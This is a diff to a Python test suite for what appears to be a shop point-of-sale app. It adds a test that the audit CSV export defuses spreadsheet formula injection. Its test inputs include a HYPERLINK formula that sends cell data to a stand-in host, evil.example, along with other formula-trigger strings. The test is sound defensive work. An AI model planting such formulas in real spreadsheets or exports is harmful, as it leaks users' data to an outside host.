@@ -140,3 +140,21 @@ def test_a_cashier_is_refused_every_audit_and_backup_action(
 def test_the_daily_backup_is_a_chore_any_signed_in_till_may_start(shop: Opened) -> None:
     cashier = staff.sign_in(shop.shop, "Cai", PIN)
     assert backups.backup_if_due(shop.shop, cashier).made is not None
+
+
+@pytest.mark.parametrize(
+    "reason",
+    ['=HYPERLINK("http://evil.example/?"&A1,"receipt")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"],
+)
+def test_the_csv_export_never_hands_excel_a_formula(
+    shop: Opened, reason: str, clock: FixedClock
+) -> None:
+    # A reason is typed by staff; Excel opening the export must show it as text, never run it.
+    mia = _mia(shop)
+    points.adjust(shop.shop, mia, "10000001", 1, reason, "Q-formula")
+    export = audit_view.audit_csv(shop.shop, mia, AuditQuery(action="points."))
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    cell = rows[0]["reason"]
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert cell.endswith(reason.strip())
+    assert rows[0]["seq"].isdigit()
